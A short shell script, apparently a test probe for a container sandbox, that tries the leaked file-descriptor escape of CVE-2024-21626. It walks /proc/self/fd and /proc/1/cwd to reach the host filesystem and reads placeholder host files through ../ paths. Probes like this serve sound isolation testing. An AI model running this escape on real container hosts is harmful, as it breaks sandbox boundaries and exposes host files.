# threat: T1
# tries: use a working directory that was left outside the root (CVE-2024-21626)
# trips: received
pwd -P
case $(pwd -P) in /workspace) ;; *) echo "BREACH: started in $(pwd -P)" ;; esac
for n in $(seq 0 255); do
    cd "/proc/self/fd/$n" 2>/dev/null || continue
    echo "$n: $(pwd -P)"
    for file in @FILES@; do cat "../../../../../../..$file" ".$file"; done
done
cd /proc/1/cwd && pwd -P && cat ../../../../..@STATE@/*
echo END
